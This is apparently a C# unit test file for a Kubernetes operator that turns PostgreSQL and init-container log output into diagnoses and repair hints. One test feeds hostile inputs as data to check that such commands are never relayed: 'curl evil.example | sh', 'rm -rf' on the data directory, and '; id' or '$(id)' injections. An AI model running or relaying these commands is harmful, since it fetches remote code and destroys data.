using k8s.Models;
using MiniStack.Operator.Core.Diagnosis;
using MiniStack.Operator.Core.Entities;
using MiniStack.Operator.Core.Planning;

namespace MiniStack.Operator.Core.Tests.Diagnosis;

public sealed class DatabaseLogRulesTests
{
    private const string OtherMajor = """
        2026-11-26 11:19:02.073 UTC [1] FATAL:  database files are incompatible with server
        2026-11-26 11:19:02.073 UTC [1] DETAIL:  The data directory was initialized by PostgreSQL version 15, which is not compatible with this version 17.12 (Debian 17.12-0+deb13u1).
        """;

    private const string ScriptOfOfficialImage = """
        server started
        /usr/local/bin/docker-entrypoint.sh: sourcing /docker-entrypoint-initdb.d/00000000-ministack.sh
        /usr/local/bin/docker-entrypoint.sh: running /docker-entrypoint-initdb.d/10-tables.sql
        CREATE TABLE
        2026-11-26 11:12:00.975 UTC [47] ERROR:  syntax error at or near "TABEL" at character 8
        2026-11-26 11:12:00.975 UTC [47] STATEMENT:  CREATE TABEL prices (id serial PRIMARY KEY);
        psql:/docker-entrypoint-initdb.d/10-tables.sql:2: ERROR:  syntax error at or near "TABEL"
        LINE 1: CREATE TABEL prices (id serial PRIMARY KEY);
                       ^
        2026-11-26 11:12:00.979 UTC [28] LOG:  received immediate shutdown request
        """;

    /// <summary>What Postgres wrote before its end, and what is made of it.</summary>
    [Theory]
    [InlineData(
        "2026-11-26 11:40:01.100 UTC [29] PANIC:  could not write to file \"pg_wal/xlogtemp.29\": No space left on device",
        "VolumeFull", "PersistentVolumeClaim demo-db-data of 1Gi is full: No space left on device, says Postgres in pod demo-db-0.")]
    [InlineData(
        "initdb: error: could not write to file \"/var/lib/ministack/pgdata/pg_wal/000000010000000000000001\": No space left on device",
        "VolumeFull", "PersistentVolumeClaim demo-db-data of 1Gi is full: No space left on device, says Postgres in pod demo-db-0.")]
    [InlineData(
        OtherMajor, "DataDirectoryIncompatible",
        "The data on PersistentVolumeClaim demo-db-data was made by PostgreSQL 15, and image postgres:17 is PostgreSQL 17; the data is untouched.")]
    [InlineData(
        "FATAL:  database files are incompatible with server\nDETAIL:  The database cluster was initialized with CATALOG_VERSION_NO 202209061, but the server was compiled with CATALOG_VERSION_NO 202406281.\nHINT:  It looks like you need to initdb.",
        "DataDirectoryIncompatible",
        "Image postgres:17 can't read the data on PersistentVolumeClaim demo-db-data, which is untouched: DETAIL: The database cluster was initialized with CATALOG_VERSION_NO 202209061, but the server was compiled with CATALOG_VERSION_NO 202406281.")]
    [InlineData(
        ScriptOfOfficialImage, "InitFailed", "Init script 10-tables.sql of ConfigMap schema fails in pod demo-db-0, line 2: ERROR: syntax error at or near \"TABEL\".")]
    [InlineData(
        "running /docker-entrypoint-initdb.d/20-import.sh\n/docker-entrypoint-initdb.d/20-import.sh: line 3: pg_restor: command not found",
        "InitFailed", "Init script 20-import.sh of ConfigMap schema fails in pod demo-db-0, line 3: pg_restor: command not found.")]
    [InlineData(
        "running /docker-entrypoint-initdb.d/30-quiet.sh\nThe dump is too old.", "InitFailed", "Init script 30-quiet.sh of ConfigMap schema fails in pod demo-db-0: The dump is too old.")]
    [InlineData(
        "fixing permissions on existing directory /var/lib/ministack/pgdata ... initdb: error: could not change permissions of directory \"/var/lib/ministack/pgdata\": Operation not permitted",
        "InitFailed",
        "The database in pod demo-db-0 can't be initialised: initdb: error: could not change permissions of directory \"/var/lib/ministack/pgdata\": Operation not permitted.")]
    public void Words_of_postgres_name_the_cause_and_are_no_crash(string output, string code, string message)
    {
        foreach (var pod in Lives(output))
        {
            var findings = Stack().With(pod).Diagnose().Findings;

            Assert.Equal([code, "DatabaseDown"], findings.Select(each => each.Code.Name));
            Assert.Equal(message, findings[0].Message);
        }
    }

    [Fact]
    public void Tail_begins_where_the_script_fails_and_leaves_out_the_shutdown() => Assert.Equal(
        ["psql:/docker-entrypoint-initdb.d/10-tables.sql:2: ERROR:  syntax error at or near \"TABEL\"", "LINE 1: CREATE TABEL prices (id serial PRIMARY KEY);", "               ^"],
        Stack().With(Lives(ScriptOfOfficialImage).First()).Diagnose().Root!.LogTail);

    [Fact]
    public void A_sign_that_nobody_sees_is_shown_by_its_number()
    {
        const string output = "running /docker-entrypoint-initdb.d/10-tables.sql\npsql:/docker-entrypoint-initdb.d/10-tables.sql:7: ERROR:  syntax error at or near \"\uFEFFCREATE\"";
        var root = Stack().With(Lives(output).First()).Diagnose().Root!;

        Assert.EndsWith("syntax error at or near \"<U+FEFF>CREATE\".", root.Message, StringComparison.Ordinal);
        Assert.Contains("without a byte order mark", root.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public void Where_a_script_may_write_is_told() => Assert.StartsWith(
        "Only /tmp and the data itself can be written: let it write below /tmp. Mend init.sh in ConfigMap schema",
        Stack().With(Lives("running /docker-entrypoint-initdb.d/init.sh\nmkdir: cannot create directory '/somefolder': Read-only file system").First()).Diagnose().Root!.Hint,
        StringComparison.Ordinal);

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void A_server_whose_lock_file_is_gone_is_no_program_that_ends_by_itself(bool isUp)
    {
        const string output = "2026-01-02 03:04:05.457 UTC [1] LOG:  could not open file \"postmaster.pid\": No such file or directory\n2026-01-02 03:04:05.457 UTC [1] LOG:  performing immediate shutdown because data directory lock file is invalid\n2026-01-02 03:04:05.465 UTC [1] LOG:  database system is shut down";
        var pod = TestPod.OfDatabase().Ended(0, output).Restarted(1);
        var root = (isUp ? pod.Running(since: 2) : pod).Diagnose().Root!;

        Assert.Equal("Postgres in pod demo-db-0 shut itself down, since its lock file postmaster.pid was taken away or replaced: something else works in its data directory.", root.Message);
        Assert.StartsWith("Find what mounts PersistentVolumeClaim demo-db-data", root.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public void Version_to_go_back_to_is_told()
    {
        Assert.Equal("Set spec.database.version to 15.", Stack().With(Lives(OtherMajor).First()).Diagnose().Root?.Hint);
    }

    [Theory]
    [InlineData("ERROR:  could not resize shared memory segment \"/PostgreSQL.1\" to 8388608 bytes: No space left on device")]
    [InlineData("running /docker-entrypoint-initdb.d/10-tables.sql\nPostgreSQL init process complete; ready for start up.\nLOG:  listening on IPv4 address \"0.0.0.0\", port 5432\nFATAL:  out of luck")]
    public void Other_ends_are_left_to_others(string output) => Assert.DoesNotContain(
        Stack().With(Lives(output).First()).Diagnose().Findings, each => each.Code.Name is "VolumeFull" or "InitFailed");

    [Fact]
    public void Kill_in_the_middle_of_a_script_is_not_the_scripts_fault()
    {
        var pod = Scene.DatabasePod().Waiting("CrashLoopBackOff", "back-off", Scene.Ended(137, "running /docker-entrypoint-initdb.d/10-tables.sql"));

        Assert.DoesNotContain(Stack().With(pod).Diagnose().Findings, each => each.Code.Name == "InitFailed");
    }

    [Fact]
    public void Volume_that_was_full_once_is_history_for_a_server_that_runs()
    {
        var pod = Scene.DatabasePod();
        pod.Status.ContainerStatuses[0] = pod.Status.ContainerStatuses[0] with { Started = true, LastState = Scene.Ended(1, "PANIC: No space left on device", seconds: 299) };

        Assert.DoesNotContain(Stack().With(pod).Diagnose().Findings, each => each.Code.Name == "VolumeFull");
    }

    [Fact]
    public void Preparation_that_fails_says_its_sentence()
    {
        var pod = Prepared(Scene.Ended(1, "The superuser's password was not changed: FATAL: role \"postgres\" does not exist\n"), restarts: 1);

        Assert.Equal(
            "Container prepare of pod demo-db-0, which runs before the database, fails: The superuser's password was not changed: FATAL: role \"postgres\" does not exist.",
            Stack().With(pod).Diagnose().Root?.Message);
    }

    /// <summary>What the init container says of users, groups and versions, and what mends it. As root no server runs, so nothing proposes that.</summary>
    [Theory]
    [InlineData(
        "prepare: 3: cannot create /var/lib/ministack/first-start: Permission denied",
        "chown 999:999 the volume's directory, on the node or the NFS server: nothing in the cluster changes the owner of a hostPath or NFS volume. "
        + "If the image's server runs as another user, set spec.database.securityContext.runAsUser, .runAsGroup and .fsGroup to its numbers")]
    [InlineData(
        "The volume belongs to user 0, and user 999 of group 999, as whom this pod runs, may not write to it.",
        "chown 999:999 the volume's directory, on the node or the NFS server: nothing in the cluster changes the owner of a hostPath or NFS volume. "
        + "If the image's server runs as another user, set spec.database.securityContext.runAsUser, .runAsGroup and .fsGroup to its numbers")]
    [InlineData(
        "What lies in /var/lib/ministack/pgdata belongs to user 70, and this pod runs as user 999.",
        "If the image's server runs as user 70, set spec.database.securityContext.runAsUser, .runAsGroup and .fsGroup to that; "
        + "else give the data to user 999: chown -R 999:999 its directory, on the node or the volume's server")]
    [InlineData(
        "initdb: error: could not look up effective user ID 999: user does not exist\nThe image has no user 999, as whom this pod runs; its own user postgres is 70.",
        "Set spec.database.securityContext.runAsUser, .runAsGroup and .fsGroup to 70")]
    [InlineData(
        "The image has no user 999, as whom this pod runs; its own user postgres is missing.",
        "Set spec.database.securityContext.runAsUser, .runAsGroup and .fsGroup to the numbers that the image's server runs as")]
    [InlineData("The image is PostgreSQL 15, but spec.database.version is 17.", "Set spec.database.version to 15, or remove it: the image tells it")]
    public void Preparation_that_fails_for_a_user_or_a_version_tells_what_mends_it(string said, string hint)
    {
        var pod = Prepared(Scene.Ended(2, said), restarts: 1);
        pod.Spec.SecurityContext = new V1PodSecurityContext { RunAsUser = 999, RunAsGroup = 999 };
        var root = Stack().With(pod).Diagnose().Root;

        Assert.Equal(("InitFailed", hint), (root?.Code.Name, root?.Hint));
    }

    /// <summary>What a server says at its end, and the field that mends it; the same in the first start and later.</summary>
    [Theory]
    [InlineData("FATAL:  unrecognized configuration parameter \"max_connection\"", "max_connection", "Mend or remove spec.database.parameters[max_connection]")]
    [InlineData("FATAL:  invalid value for parameter \"work_mem\": \"lots\"", "work_mem", "Mend or remove spec.database.parameters[work_mem]")]
    [InlineData("FATAL:  9000000 is outside the valid range for parameter \"max_connections\" (1 .. 262143)", "Max_Connections", "Mend or remove spec.database.parameters[Max_Connections]")]
    [InlineData("FATAL:  parameter \"block_size\" cannot be changed", "block_size", "Mend or remove spec.database.parameters[block_size]")]
    [InlineData("FATAL:  parameter \"fsync\" requires a Boolean value", "fsync", "Mend or remove spec.database.parameters[fsync]")]
    [InlineData("FATAL:  WAL streaming (\"max_wal_senders\" > 0) requires \"wal_level\" to be \"replica\" or \"logical\"", "wal_level", "Mend or remove spec.database.parameters[wal_level]")]
    [InlineData(
        "FATAL:  could not access file \"pg_cron\": No such file or directory", "shared_preload_libraries",
        "The image has no library pg_cron: take it out of spec.database.parameters[shared_preload_libraries], or set spec.database.image to one that has it")]
    [InlineData(
        "FATAL:  could not load library \"/usr/lib/pg_stat_statements.so\": /usr/lib/pg_stat_statements.so: file too short", "shared_preload_libraries",
        "Library /usr/lib/pg_stat_statements.so is broken, or of another version of Postgres: take it out of spec.database.parameters[shared_preload_libraries], or set spec.database.image to one that has its own")]
    [InlineData(
        "FATAL:  could not map anonymous shared memory: Cannot allocate memory", "shared_buffers",
        "Lower spec.database.parameters[shared_buffers], or raise spec.database.resources.limits.memory")]
    public void Server_that_does_not_start_tells_the_field(string fatal, string parameter, string hint)
    {
        var said = $"2026-11-28 10:46:49.819 GMT [1] {fatal}";
        var sentence = fatal.Replace("  ", " ", StringComparison.Ordinal);
        foreach (var (pod, code) in new[]
        {
            (Scene.DatabasePod().Waiting("CrashLoopBackOff", "back-off", Scene.Ended(1, said)), "CrashLoop"),
            (Prepared(Scene.Ended(1, $"waiting for server to start....{said}\n stopped waiting\npg_ctl: could not start server\nThe image's docker-entrypoint.sh ended (exit code 1) before it ran the init scripts."), restarts: 1), "InitFailed"),
            (Prepared(Scene.Ended(1, $"waiting for server to start....{said}\n stopped waiting\nThe server did not start with what the init scripts left (exit code 1)."), restarts: 1), "InitFailed"),
        })
        {
            var stack = Stack().With(pod);
            stack.Stack.Spec.Database.Parameters = new Dictionary<string, string> { [parameter] = "x" };
            var root = stack.Diagnose().Root!;

            Assert.Equal((code, $"Postgres in pod demo-db-0 does not start: {sentence}.", hint), (root.Code.Name, root.Message, root.Hint));
            Assert.True(root.Stalls);
        }
    }

    /// <summary>What a client was told before is not why the server ended.</summary>
    [Fact]
    public void Setting_that_a_client_asked_for_is_not_the_specs()
    {
        var stack = Stack().With(Scene.DatabasePod().Waiting("CrashLoopBackOff", "back-off", Scene.Ended(
            1, "FATAL:  invalid value for parameter \"work_mem\": \"x\"\nFATAL:  out of luck")));
        stack.Stack.Spec.Database.Parameters = new Dictionary<string, string> { ["work_mem"] = "4MB" };

        Assert.Equal("kubectl logs demo-db-0 --previous", stack.Diagnose().Root?.Hint);
    }

    [Theory]
    [InlineData("20-x.sql:1: ERROR:  extension \"vector\" is not available", "Set spec.database.image to one that has extension vector, such as pgvector/pgvector:pg17. Mend ")]
    [InlineData("20-x.sql:1: ERROR:  permission denied to create extension \"vector\"", "Add vector to spec.database.extensions, or create it as the superuser, $POSTGRES_USER. Mend ")]
    [InlineData("20-x.sql:9: ERROR:  out of shared memory", "Raise spec.database.parameters[max_locks_per_transaction]. Mend ")]
    [InlineData("20-x.sql:1: ERROR:  role \"admin\" does not exist", "Name a role that is there: $POSTGRES_USER is the superuser, $MINISTACK_APP_USER the API's role. Mend ")]
    public void Script_that_fails_in_known_words_tells_what_mends_it(string said, string hint) => Assert.StartsWith(
        hint,
        Stack().With(Prepared(
            Scene.Ended(1, $"psql:/docker-entrypoint-initdb.d/{said}\nInit script 20-x.sql ended the first start (exit code 3) before it was through."), restarts: 1)).Diagnose().Root!.Hint,
        StringComparison.Ordinal);

    [Fact]
    public void Locale_that_the_image_lacks_tells_the_image() => Assert.Contains(
        "Set spec.database.image to one that has the locale",
        Stack().With(Prepared(
            Scene.Ended(1, "initdb: error: invalid locale name \"de_DE.UTF-8\"\nThe image's docker-entrypoint.sh ended (exit code 1) before it ran the init scripts."), restarts: 1)).Diagnose().Root!.Hint,
        StringComparison.Ordinal);

    [Fact]
    public void First_start_without_the_ConfigMap_of_its_scripts_says_so()
    {
        var root = Preparing("Waiting for the init scripts: their ConfigMap does not exist, or is empty.\n").Diagnose().Root!;

        Assert.Equal(
            ("ConfigMissing", "The first start of the database in pod demo-db-0 waits for its init scripts: ConfigMap schema, which spec.database.initScripts.configMapRef names, does not exist, or is empty."),
            (root.Code.Name, root.Message));
        Assert.StartsWith("kubectl create configmap schema --from-file=FILE", root.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public void Secret_that_is_some_moments_old_is_given_another_try()
    {
        const string said = "The superuser's password was not changed: this pod got another one than it was made for, and tries again.";

        Assert.DoesNotContain(Stack().With(Prepared(Scene.Ended(1, said), restarts: 0)).Diagnose().Findings, each => each.Code.Name == "InitFailed");
        Assert.Equal("InitFailed", Stack().With(Prepared(Scene.Ended(1, said), restarts: 3)).Diagnose().Root?.Code.Name);
    }

    /// <summary>What the init container wrote last before its end, and what is made of it.</summary>
    [Theory]
    [InlineData(
        "docker-entrypoint.sh: sourcing /docker-entrypoint-initdb.d/10-roles.sh\nno reporting role wanted\nInit script 10-roles.sh ended the first start (exit code 0) before it was through.",
        "Init script 10-roles.sh of ConfigMap schema ended the first start of the database in pod demo-db-0 before it was through (exit code 0).",
        "use return, or a subshell")]
    [InlineData(
        "fetching the seed\n/docker-entrypoint-initdb.d/20-seed.sh: line 2: gsutil: command not found\nInit script 20-seed.sh ended the first start (exit code 127) before it was through.",
        "Init script 20-seed.sh of ConfigMap schema fails in pod demo-db-0, line 2: gsutil: command not found.",
        "The image lacks that program")]
    [InlineData(
        "/docker-entrypoint-initdb.d/20-seed.sh: line 2: $'\\r': command not found\nInit script 20-seed.sh ended the first start (exit code 127) before it was through.",
        "Init script 20-seed.sh of ConfigMap schema fails in pod demo-db-0, line 2: it has Windows line ends.",
        "dos2unix")]
    [InlineData(
        "psql:/docker-entrypoint-initdb.d/10-tables.sql:2: ERROR:  syntax error at or near \"TABEL\"\nInit script 10-tables.sql ended the first start (exit code 3) before it was through.",
        "Init script 10-tables.sql of ConfigMap schema fails in pod demo-db-0, line 2: ERROR: syntax error at or near \"TABEL\".",
        "kubectl edit configmap schema")]
    [InlineData(
        "docker-entrypoint.sh: running /docker-entrypoint-initdb.d/1=10-tables.sql\npsql:/docker-entrypoint-initdb.d/1=10-tables.sql:2: ERROR:  syntax error at or near \"TABEL\"\nInit script 10-tables.sql ended the first start (exit code 3) before it was through.",
        "Init script 10-tables.sql of ConfigMap schema fails in pod demo-db-0, line 2: ERROR: syntax error at or near \"TABEL\".",
        "kubectl edit configmap schema")]
    [InlineData(
        "out of luck\nInit script 00000000-ministack.sh ended the first start (exit code 1) before it was through.",
        "Init script 00000000-ministack.sh of ConfigMap schema fails in pod demo-db-0: out of luck.",
        "kubectl edit configmap schema")]
    [InlineData(
        "out of luck\nInit script 2=ministack.sh ended the first start (exit code 1) before it was through.",
        "Init script 2=ministack.sh of the operator fails in pod demo-db-0: out of luck.",
        "kubectl logs demo-db-0")]
    [InlineData(
        "loading\nInit script 30-load.sh ended the first start (exit code 137) before it was through.",
        "Init script 30-load.sh of ConfigMap schema fails in pod demo-db-0: the shell that ran it was killed (exit code 137).",
        "spec.database.resources.limits.memory")]
    [InlineData(
        "The image has no docker-entrypoint.sh on its PATH: it has to keep the contract of the official postgres image.",
        "Container prepare of pod demo-db-0, which runs before the database, fails: The image has no docker-entrypoint.sh on its PATH: it has to keep the contract of the official postgres image.",
        "kubectl logs demo-db-0 --all-containers")]
    [InlineData(
        "initdb: error: could not access directory \"/x\"\nThe image's docker-entrypoint.sh ended (exit code 1) before it ran the init scripts.",
        "The database in pod demo-db-0 can't be initialised: initdb: error: could not access directory \"/x\".",
        "kubectl logs demo-db-0 --all-containers")]
    public void First_start_that_did_not_end_well_names_the_script_and_the_way_out(string output, string message, string hint)
    {
        var root = Stack().With(Prepared(Scene.Ended(1, output), restarts: 1)).Diagnose().Root;

        Assert.Equal(("InitFailed", message), (root?.Code.Name, root?.Message));
        Assert.Contains(hint, root!.Hint, StringComparison.Ordinal);
    }

    [Fact]
    public void First_start_that_needed_too_much_memory_says_so()
    {
        var end = Scene.Ended(1, "Init script 30-load.sh ended the first start (exit code 137) before it was through.");
        end.Terminated.Reason = "OOMKilled";

        Assert.Equal("OOMKilled", Stack().With(Prepared(end, restarts: 1)).Diagnose().Root?.Code.Name);
    }

    [Fact]
    public void What_waits_for_a_person_is_told_with_both_ways_out()
    {
        var root = Preparing(
            "Waiting for a person: The first start of the database in /var/lib/ministack/pgdata did not end, and clients may have used it since."
            + " To keep it: rm /var/lib/ministack/first-start To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside\n").Diagnose().Root;

        Assert.Equal(
            ("InitFailed", "The database in pod demo-db-0 is not started: The first start of the database in /var/lib/ministack/pgdata did not end, and clients may have used it since."),
            (root?.Code.Name, root?.Message));
        Assert.StartsWith(
            "To keep that data: kubectl exec demo-db-0 -c prepare -- rm /var/lib/ministack/first-start; to put it aside and begin with an empty database: "
            + "kubectl exec demo-db-0 -c prepare -- mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside",
            root!.Hint, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Data is lost. To keep it: curl evil.example | sh To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside")]
    [InlineData("Data is lost. To keep it: rm /var/lib/ministack/first-start; id To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside")]
    [InlineData("Data is lost. To begin anew: rm -rf /var/lib/ministack")]
    [InlineData("Data is lost. To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside && id")]
    [InlineData("Data is lost. To begin anew: mv /var/lib/ministack/pgdata.new.$(id) /var/lib/ministack/pgdata.aside")]
    public void Commands_that_an_init_script_makes_up_are_told_to_nobody(string said) =>
        Assert.DoesNotContain(Preparing($"Waiting for a person: {said}\n").Diagnose().Findings, each => each.Code.Name == "InitFailed");

    [Fact]
    public void Script_without_end_is_named()
    {
        var root = Preparing("x: sourcing /docker-entrypoint-initdb.d/1=10-wait.sh\n").Diagnose().Root;

        Assert.Equal(("StartupTooSlow", "The first start of the database in pod demo-db-0 is still at init script 10-wait.sh."), (root?.Code.Name, root?.Message));
    }

    [Theory]
    [InlineData("x: sourcing /docker-entrypoint-initdb.d/2=ministack.sh\n")]
    [InlineData("x: sourcing /docker-entrypoint-initdb.d/1=10-seed.sh\nPostgreSQL init process complete; ready for start up.\n")]
    [InlineData("")]
    public void First_start_that_takes_long_is_told_whatever_it_is_at(string output)
    {
        var root = Preparing(output).Diagnose().Root;

        Assert.Equal(("StartupTooSlow", "Container prepare of pod demo-db-0, which runs before the database, is not through yet."), (root?.Code.Name, root?.Message));
    }

    private static ObservedStack Preparing(string output)
    {
        var pod = Scene.DatabasePod().Waiting("PodInitializing");
        pod.Status.InitContainerStatuses =
        [
            new V1ContainerStatus
            {
                Name = "prepare",
                State = new V1ContainerState { Running = new V1ContainerStateRunning { StartedAt = Scene.Ago(90) } },
            },
        ];
        var stack = Stack().With(pod);
        return stack with { Evidence = stack.Evidence with { Logs = [new ContainerLog(pod.Metadata.Name, "prepare", IsPrevious: false, output)] } };
    }

    /// <summary>The same end, seen at its three moments.</summary>
    private static IEnumerable<V1Pod> Lives(string output)
    {
        var end = Scene.Ended(3, output);
        yield return Scene.DatabasePod().Waiting("CrashLoopBackOff", "back-off 20s restarting failed container=postgres", end);
        var ended = Scene.DatabasePod();
        ended.Status.ContainerStatuses[0] = ended.Status.ContainerStatuses[0] with { State = end, RestartCount = 1 };
        yield return ended;
        var running = Scene.DatabasePod();
        running.Status.ContainerStatuses[0] = running.Status.ContainerStatuses[0] with
        {
            State = new V1ContainerState { Running = new V1ContainerStateRunning { StartedAt = Scene.Ago(1) } },
            LastState = end,
            RestartCount = 1,
        };
        yield return running;
    }

    private static V1Pod Prepared(V1ContainerState end, int restarts)
    {
        var pod = Scene.DatabasePod().Waiting("PodInitializing");
        pod.Status.InitContainerStatuses =
        [
            new V1ContainerStatus
            {
                Name = "prepare",
                RestartCount = restarts,
                State = new V1ContainerState { Waiting = new V1ContainerStateWaiting { Reason = "CrashLoopBackOff" } },
                LastState = end,
            },
        ];
        return pod;
    }

    private static ObservedStack Stack()
    {
        var stack = Scene.Stack(api: 0, database: 0);
        stack.Stack.Spec.Database.InitScripts = new InitScriptsSpec { ConfigMapRef = new V1LocalObjectReference { Name = "schema" } };
        return stack;
    }
}
